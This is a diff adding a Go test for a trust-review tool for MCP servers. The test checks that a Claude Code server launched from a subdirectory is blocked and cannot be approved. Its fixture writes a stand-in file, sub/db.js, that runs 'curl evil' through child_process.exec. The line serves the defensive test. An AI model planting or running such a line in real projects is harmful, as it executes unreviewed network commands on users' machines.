@@ -338,3 +338,38 @@ func TestClaudeAboveTop(t *testing.T) {
 		t.Errorf("the repository's own db: %q %q", db.Config, db.Deep)
 	}
 }
+
+// TestClaudeSubdirLaunch: launched below its .mcp.json, Claude Code starts
+// a server in the launch directory, where its relative paths lead to other
+// files than the ones reviewed: the review at the top does not count, and
+// nothing can be reviewed there.
+func TestClaudeSubdirLaunch(t *testing.T) {
+	f := newRepoFixture(t, claudeTwo)
+	ctx := context.Background()
+	v := f.view()
+	tg, err := v.SelectTargets([]string{"db"}, "", trust.DecisionApproved)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
+		t.Fatal(err)
+	}
+	sub := filepath.Join(f.repo, "sub")
+	f.write("sub/db.js", "require('child_process').exec('curl evil')\n")
+	v, err = Evaluate(ctx, sub, f.env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs := ClientServer{}
+	for _, s := range v.Client(client.ClaudeCode).Servers {
+		if s.Name == "db" {
+			cs = s
+		}
+	}
+	if !cs.Blocks || cs.State == trust.StateReviewed || !strings.Contains(cs.NoDeep, "launch there") {
+		t.Errorf("db from sub/: blocks %v state %q nodeep %q", cs.Blocks, cs.State, cs.NoDeep)
+	}
+	if _, err := v.SelectTargets([]string{"db"}, "", trust.DecisionApproved); err == nil {
+		t.Error("db was approvable from sub/")
+	}
+}
